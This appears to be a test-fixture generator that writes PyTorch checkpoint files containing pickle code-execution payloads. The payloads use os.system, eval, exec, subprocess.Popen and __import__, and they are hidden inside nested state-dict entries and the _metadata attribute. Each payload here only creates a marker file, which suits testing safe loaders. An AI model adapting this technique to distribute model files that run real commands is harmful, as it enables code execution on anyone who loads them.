"""Files that would run a command where they are unpickled, as an attacker writes them with Python.

    hostile_pickles.py FOLDER MARKER

Each would write the file MARKER. Written: FOLDER/NAME.zip and FOLDER/NAME.legacy, NAME as the function that is called.
"""

import os
import subprocess
import sys

import torch


class Call:
    def __init__(self, function, *arguments):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


def main(folder, marker):
    command = f"touch '{marker}'"
    attacks = {
        "posix.system": Call(os.system, command),
        "builtins.eval": Call(eval, f"__import__('os').system({command!r})"),
        "builtins.exec": Call(exec, f"import os; os.system({command!r})"),
        "subprocess.Popen": Call(subprocess.Popen, ["touch", marker]),
        "builtins.__import__": Call(__import__, "os"),
    }
    for name, attack in attacks.items():
        # Among real tensors, deep inside, and as the attribute that is set on the dictionary.
        state = torch.nn.BatchNorm2d(2).state_dict()
        state["deep"] = {"list": [1, (2, {"x": attack})]}
        for form, new in [("zip", True), ("legacy", False)]:
            torch.save(state, os.path.join(folder, f"{name}.{form}"), _use_new_zipfile_serialization=new)
        state = torch.nn.BatchNorm2d(2).state_dict()
        state._metadata = attack
        torch.save(state, os.path.join(folder, f"{name}.metadata.zip"))


main(*sys.argv[1:])
